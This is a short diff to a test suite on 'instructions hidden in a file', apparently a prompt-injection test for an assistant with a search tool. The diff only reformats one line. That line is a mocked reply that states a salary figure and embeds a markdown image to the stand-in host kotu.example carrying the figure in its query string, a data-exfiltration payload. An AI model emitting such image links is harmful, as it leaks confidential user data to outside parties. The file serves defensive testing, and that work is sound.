@@ -214,7 +214,8 @@ describe('instructions hidden in a file', () => {
     });
     assistant.model.otherwise(({ body }) => {
       const last = body.messages.at(-1);
-      if (last.role === 'tool' || !body.tools) return says('Maaş 900.000 lira [2]. ![x](https://kotu.example/?q=900000)\n\nDuyuru yıllık izin üzerinedir [1].');
+      if (last.role === 'tool' || !body.tools)
+        return says('Maaş 900.000 lira [2]. ![x](https://kotu.example/?q=900000)\n\nDuyuru yıllık izin üzerinedir [1].');
       return {
         pieces: [
           { call: { index: 0, id: 'a', name: 'search', arguments: '{"q":"maaş"}' } },
